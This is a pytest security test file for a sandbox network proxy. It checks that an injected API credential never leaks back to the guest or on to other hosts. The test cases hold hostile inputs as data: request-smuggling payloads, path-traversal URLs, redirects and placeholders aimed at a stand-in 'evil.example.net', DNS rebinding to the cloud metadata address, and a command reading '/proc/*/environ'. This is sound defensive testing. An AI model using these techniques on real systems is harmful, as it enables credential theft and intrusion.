"""Credentials the guest never holds: it cannot have them sent elsewhere, and cannot have them sent back.

In every case the origin does get the secret (the control); the guest's answer is searched for it in all its forms.
"""

from __future__ import annotations

import base64
import re
from urllib.parse import quote

import pytest

from tests.barrier.attacks.guest import Case
from tests.barrier.attacks.kit import Any, fetch, in_pieces, raw_http, resolve, socket, tls_context, ws_frame
from tests.barrier.world import Arrival

pytestmark = [pytest.mark.vm, pytest.mark.root]

NAME, OTHER, EVIL = "api.example.com", "other.example.com", "evil.example.net"
SECRET = "sk-live/7Qz+mW=9x&%~Jd4"
"""With what base64 and percent-encoding change."""
PLACEHOLDER = "PLACEHOLDER-4c34c0ffee"
BASE64 = [base64.b64encode(text.encode()).decode().rstrip("=") for text in (SECRET, f"robot:{SECRET}")]
FORMS = (
    SECRET,
    quote(SECRET, safe=""),
    quote(SECRET),
    *BASE64,
    *(quote(text, safe="") for text in BASE64),
    re.sub("%[0-9A-F]{2}", lambda found: found[0].lower(), quote(SECRET, safe="")),
    base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("="),
)


@pytest.fixture(scope="module", autouse=True)
def secret(node: Any) -> None:
    node.call("PUT", "/v1/secrets/token", json={"value": SECRET})


def bound(*credentials: dict[str, Any], rules: tuple[str, ...] = ()) -> dict[str, Any]:
    allowed = [f"allow {NAME}", f"allow {OTHER}", *rules]
    return {
        "rules": allowed,
        "credentials": [{"secret": "token", "host": NAME, **one} for one in credentials],
    }


BEARER: dict[str, Any] = {"as": "bearer"}
HEADER = {"as": "header", "header": "X-Api-Key"}
BASIC = {"as": "basic", "username": "robot"}
QUERY = {"as": "query", "parameter": "key"}
PLACE = {"as": "placeholder", "placeholder": PLACEHOLDER}


def found_in(answer: dict[str, Any]) -> list[str]:
    """Forms of the secret in anything the guest got."""
    text = repr(answer) + str(answer.get("body", b"").decode("latin-1")) + str(answer.get("headers"))
    text += str(answer.get("data", b"").decode("latin-1"))
    return [form for form in FORMS if form in text]


def carried(case: Case, **what: Any) -> list[Arrival]:
    """Arrivals that had the secret in them."""
    found = []
    for one in case.lab.arrived(case.mark, **what):
        text = one.raw.decode("latin-1") + one.body.decode("latin-1")
        if any(form in text for form in FORMS):
            found.append(one)
    return found


ECHOES = ["/echo", "/echo-header", "/echo-gzip", "/echo-deflate", "/echo-zstd", "/echo-split", "/echo-base64",
          "/echo-percent", "/echo-percent-small", "/echo-status", "/echo-double", "/echo-members", "/echo-trailer",
          "/echo-extension", "/echo-early", "/echo-until-close", "/echo-failing", "/echo-not-modified"]  # fmt: skip


@pytest.mark.parametrize("path", ECHOES)
@pytest.mark.parametrize("form", [BEARER, HEADER, BASIC, QUERY], ids=["bearer", "header", "basic", "query"])
def test_an_origin_that_gives_it_back(case: Case, path: str, form: dict[str, Any]) -> None:
    """In a header, a body, compressed, byte by byte, encoded, in the status line: it is struck out, or refused."""
    case.guest.network(bound(form))
    answer = case.guest.run(
        fetch,
        f"https://{NAME}{path}",
        headers={"X-Marker": "visible", "Accept-Encoding": "gzip, deflate, br, zstd"},
    )
    assert carried(case, method="GET"), (answer, case.lab.arrived(case.mark))
    assert found_in(answer) == [], answer
    if path == "/echo-zstd":
        assert answer["status"] == 502
    elif path in ("/echo", "/echo-gzip", "/echo-deflate", "/echo-split"):
        assert answer["status"] == 200 and b"visible" in answer["body"], answer
        assert b"***" in answer["body"]
    # And in what a client's library does not show: trailers, extensions, interim answers.
    raw = f"GET {path} HTTP/1.1\r\nHost: {NAME}\r\nX-Marker: visible\r\nConnection: close\r\n\r\n".encode()
    assert found_in(case.guest.run(raw_http, raw, host=NAME, port=443, tls=True, timeout=8, quiet=2)) == []
    case.allowed(kind="request", credentials=lambda names: names == ["token"])


@pytest.mark.parametrize("form", [BEARER, BASIC, QUERY], ids=["bearer", "basic", "query"])
def test_a_websocket_that_gives_it_back(case: Case, form: dict[str, Any]) -> None:
    """In one message of two frames."""
    case.guest.network(bound(form))
    raw = (
        f"GET /ws-head HTTP/1.1\r\nHost: {NAME}\r\nX-Marker: visible\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {base64.b64encode(bytes(16)).decode()}\r\n\r\n"
    ).encode() + ws_frame(b"the last")
    answer = case.guest.run(raw_http, raw, host=NAME, port=443, tls=True, timeout=8, until=b"the last")
    assert carried(case, method="GET") and answer["statuses"] == [101], answer
    assert found_in(answer) == [], answer
    if form is not QUERY:
        assert b"visible" in answer["data"] and b"***" in answer["data"], answer


def test_the_guests_own_parameter_is_replaced(case: Case) -> None:
    case.guest.network(bound(QUERY))
    answer = case.guest.run(fetch, f"https://{NAME}/echo?key=mine&a=b&key=mine-too&%6bey=mine-again")
    target = carried(case, method="GET")[0].target
    assert "mine" not in target and "a=b" in target, target
    assert found_in(answer) == []


def test_an_echo_in_pieces(case: Case) -> None:
    """A range of an answer, and one that ends in the middle of the secret, have no part to put together."""
    case.guest.network(bound(BEARER))
    pieces = []
    for at in range(0, 200, 40):
        headers = {"Range": f"bytes={at}-{at + 39}"}
        pieces.append(case.guest.run(fetch, f"https://{NAME}/echo-split", headers=headers))
    assert len(carried(case, method="GET")) == len(pieces)
    assert found_in({"body": b"".join(piece["body"] for piece in pieces)}) == []


def send_slowly(pieces: list[bytes], host: str, *, secure: bool = True) -> bytes:
    """Pieces of one request, each in a TLS record and a segment of its own."""
    got = b""
    with socket.create_connection((host, 443 if secure else 80), 8) as plain:
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock = tls_context(verify=False).wrap_socket(plain, server_hostname=host) if secure else plain
        sock.settimeout(8)
        in_pieces(sock, pieces)
        try:
            while piece := sock.recv(65_536):
                got += piece
        except OSError:
            pass
    return got


def test_placeholders(case: Case) -> None:
    """In header, path, query and body, whole or split over writes, it becomes the secret at the origin alone."""
    case.guest.network(bound(PLACE))
    body = f"token={PLACEHOLDER}".encode()
    closing = "Connection: close\r\n\r\n"
    heads = {
        "header": f"GET /echo HTTP/1.1\r\nHost: {NAME}\r\nX-Token: {PLACEHOLDER}\r\nConnection: close\r\n\r\n".encode(),
        "query": f"GET /echo?token={PLACEHOLDER} HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n".encode(),
        "path": f"GET /echo/{PLACEHOLDER} HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n".encode(),
        "body": f"POST /echo HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {len(body)}\r\n{closing}".encode()
        + body,
    }
    for where, raw in heads.items():
        for size in (len(raw), 7):
            case.again()
            pieces = [raw[at : at + size] for at in range(0, len(raw), size)]
            answer = case.guest.run(send_slowly, pieces, NAME)
            arrived = case.lab.arrived(case.mark, kind="https")
            assert carried(case, kind="https"), (where, size, answer, arrived)
            assert PLACEHOLDER not in arrived[0].raw.decode("latin-1") + arrived[0].body.decode("latin-1"), (
                where
            )
            assert found_in({"data": answer}) == [], (where, size, answer)


def test_placeholders_for_others(case: Case) -> None:
    """Sent to another allowed host, in the clear, as a host, or written in another way, it stays what it is."""
    case.guest.network(bound(PLACE, rules=(f"allow {EVIL}", f"allow tcp {NAME}:22")))
    headers = {"X-Token": PLACEHOLDER}
    for url in (
        f"https://{OTHER}/echo",
        f"https://{EVIL}/echo",
        f"http://{NAME}/echo",
        f"http://{OTHER}/echo",
    ):
        answer = case.guest.run(fetch, f"{url}?t={PLACEHOLDER}", "POST", headers, PLACEHOLDER.encode())
        assert answer["status"] == 200 and PLACEHOLDER.encode() in answer["body"], (url, answer)
    encoded = "".join(f"%{ord(letter):02x}" for letter in PLACEHOLDER)
    raws = [
        f"GET /echo HTTP/1.1\r\nHost: {PLACEHOLDER}\r\nX-Token: {PLACEHOLDER}\r\nConnection: close\r\n\r\n",
        f"GET /echo HTTP/1.1\r\nHost: {EVIL}\r\nX-Token: {PLACEHOLDER}\r\nConnection: close\r\n\r\n",
        f"GET https://{EVIL}/echo?{PLACEHOLDER} HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n",
        f"{PLACEHOLDER} /echo HTTP/1.1\r\nHost: {NAME}\r\nConnection: close\r\n\r\n",
    ]
    for raw in raws:
        answer = case.guest.run(send_slowly, [raw.encode()], NAME)
        assert found_in({"data": answer}) == []
    assert carried(case) == []
    # Percent-encoded it may be taken for itself; then it is the bound host alone that gets it.
    answer = case.guest.run(fetch, f"https://{NAME}/echo?t={encoded}")
    assert found_in(answer) == []
    assert {one.address for one in carried(case)} <= {"93.184.216.34"}
    case.again()
    case.guest.run(fetch, f"https://{NAME}/echo", headers=headers)
    assert carried(case, kind="https")


@pytest.mark.parametrize("form", [BEARER, HEADER, BASIC], ids=["bearer", "header", "basic"])
def test_the_guests_own_header_is_replaced(case: Case, form: dict[str, Any]) -> None:
    case.guest.network(bound(form))
    name = "X-Api-Key" if form is HEADER else "Authorization"
    raw = f"GET /echo HTTP/1.1\r\nHost: {NAME}\r\n{name}: mine\r\n{name.upper()}: mine too\r\nConnection: close\r\n\r\n"
    answer = case.guest.run(send_slowly, [raw.encode()], NAME)
    arrived = case.lab.arrived(case.mark, kind="https")[0]
    values = [value for key, value in arrived.headers if key.lower() == name.lower()]
    assert len(values) == 1 and "mine" not in values[0], arrived
    assert found_in({"data": answer}) == []


def test_where_it_is_not_put_in(case: Case) -> None:
    """Other path, method, port, scheme, host, an address, a spliced or a raw connection."""
    limited = {**BEARER, "path": "/repos/*", "methods": ["GET"]}
    rules = ("allow 93.184.216.34", f"allow {NAME}:8443", f"allow tcp {NAME}:22")
    case.guest.network(bound(limited, rules=rules))
    attempts: list[tuple[str, str, dict[str, Any]]] = [
        ("GET", f"https://{NAME}/echo", {}),
        ("GET", f"https://{NAME}/repos/../echo", {}),
        ("GET", f"https://{NAME}/repos/%2e%2e/echo", {}),
        ("GET", f"https://{NAME}/repos%2f..%2fecho", {}),
        ("POST", f"https://{NAME}/repos/a", {}),
        ("GET", f"http://{NAME}/repos/a", {}),
        ("GET", f"https://{NAME}:8443/repos/a", {}),
        ("GET", f"https://{OTHER}/repos/a", {}),
        ("GET", f"https://{OTHER}/repos/a", {"headers": {"Host": NAME}}),
        ("GET", "https://93.184.216.34/repos/a", {"verify": False}),
        ("GET", "https://93.184.216.34/repos/a", {"verify": False, "headers": {"Host": NAME}}),
        ("GET", f"https://{NAME}/repos/a", {"connect": "93.184.216.34"}),
        ("TRACE", f"https://{NAME}/repos/a", {}),
        ("OPTIONS", f"https://{NAME}/repos/a", {}),
    ]
    for method, url, more in attempts:
        answer = case.guest.run(fetch, url, method, **more)
        assert found_in(answer) == [], (method, url, answer)
        assert carried(case) == [], (method, url, carried(case))
    case.guest.run(fetch, f"https://{NAME}/repos/a")
    assert [one.target for one in carried(case)] == ["/repos/a"]


def test_a_redirect_does_not_take_it_along(case: Case) -> None:
    """The client follows to another host: what it sends there has no secret, whatever header it copies."""
    case.guest.network(bound(BEARER, HEADER, rules=(f"allow GET {EVIL}/*",)))
    answer = case.guest.run(fetch, f"https://{NAME}/redirect?to=https://{EVIL}/echo")
    location = dict(answer["headers"])["Location"]
    assert found_in(answer) == [] and carried(case, address="93.184.216.34")
    copied = {
        key: value for key, value in answer["headers"] if key.lower() not in ("content-length", "location")
    }
    answer = case.guest.run(fetch, location, headers={**copied, "Authorization": "Bearer what-it-has"})
    assert answer["status"] == 200
    assert {one.address for one in carried(case)} == {"93.184.216.34"}


def test_a_redirect_that_gives_it_back(case: Case) -> None:
    """`Location: https://evil/?key=SECRET`, made of the query that was put in."""
    case.guest.network(bound(QUERY, rules=(f"allow {EVIL}",)))
    answer = case.guest.run(fetch, f"https://{NAME}/echo-header")
    assert carried(case) and found_in(answer) == [], answer
    assert "***" in dict(answer["headers"])["X-Target"]


def test_an_upstream_without_a_certificate_gets_nothing(case: Case) -> None:
    name = "untrusted.example.com"
    network = bound({**BEARER, "host": name}, BEARER, rules=(f"allow {name}",))
    case.guest.network(network)
    answer = case.guest.run(fetch, f"https://{name}/echo", verify=False)
    assert answer["status"] in (0, 502) and carried(case) == []
    assert not [one for one in case.lab.arrived(case.mark) if one.method]
    told = case.guest.audit(case.at, kind="request", name=name, status=502)
    assert "certificate" in told["reason"], told
    used(case)


def test_a_name_that_leads_elsewhere_gets_nothing(case: Case) -> None:
    """The host's resolver is lied to: the address is judged, and the certificate is not the bound name's."""
    names = ("stolen.evil.example.net", "inside.evil.example.net")
    case.lab.names[names[1]] = ["169.254.169.254"]
    case.guest.network(
        bound(
            *({**BEARER, "host": name} for name in names),
            BEARER,
            rules=tuple(f"allow {name}" for name in names),
        )
    )
    for name, statuses in zip(names, ((0, 502), (0, 403, 502)), strict=True):
        answer = case.guest.run(fetch, f"https://{name}/echo", verify=False)
        assert answer["status"] in statuses and carried(case) == []
    told = case.guest.audit(case.at, kind="request", name=names[0], status=502)
    assert "certificate" in told["reason"], told
    case.denied(kind="request", name=names[1], reason=lambda reason: "metadata" in reason)
    used(case)


def used(case: Case) -> None:
    """The control: the same secret, bound in the same way in the same network, is put in where it may be."""
    assert case.guest.run(fetch, f"https://{NAME}/echo")["status"] == 200
    assert [one.address for one in carried(case)] == ["93.184.216.34"]


def test_it_is_nowhere_to_be_read(case: Case) -> None:
    """Not in the record, not in what the API tells, not in the processes' command lines, not in the guest."""
    case.guest.network(bound(BEARER, BASIC | {"host": OTHER}))
    case.guest.run(fetch, f"https://{NAME}/echo?x=1")
    assert carried(case)
    texts = {
        "audit": str(case.guest.records()),
        "network": case.guest.node.http.get(f"/v1/sandboxes/{case.guest.id}/network").text,
        "sandbox": case.guest.node.http.get(f"/v1/sandboxes/{case.guest.id}").text,
        "secrets": case.guest.node.http.get("/v1/secrets").text,
        "log": case.guest.node.log(),
        "commands": str(case.lab.processes()),
    }
    assert {where for where, text in texts.items() if any(form in text for form in FORMS)} == set()
    shown = case.guest.node.exec(
        case.guest.id, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'", user="root"
    )
    assert not any(form in str(shown) for form in FORMS)


def test_smuggled_requests_carry_nothing(case: Case) -> None:
    """What hides in a body is no request of its own that a credential would be put into."""
    case.guest.network(bound(BEARER))
    hidden = f"GET /hidden HTTP/1.1\r\nHost: {NAME}\r\n\r\n"
    for framing in (
        f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n",
    ):
        raw = f"POST /echo HTTP/1.1\r\nHost: {NAME}\r\n{framing}{hidden}".encode()
        answer = case.guest.run(raw_http, raw, host=NAME, port=443, tls=True, timeout=2, quiet=0.5)
        assert found_in(answer) == []
    assert not [one for one in carried(case) if "hidden" in one.target]


def test_only_the_sandbox_it_is_bound_in(case: Case) -> None:
    """Another one with the same rules and no credential sends none, at the same time, through the same processes."""
    from tests.barrier.attacks.guest import Guest

    case.guest.network(bound(BEARER))
    other = Guest(case.guest.node, case.lab, [f"allow GET {NAME}/*"])
    try:
        assert other.run(fetch, f"https://{NAME}/echo")["status"] == 200
        assert carried(case) == []
        assert other.run(resolve, NAME)["addresses"]
        case.guest.run(fetch, f"https://{NAME}/echo")
        assert len(carried(case)) == 1
    finally:
        other.kill()
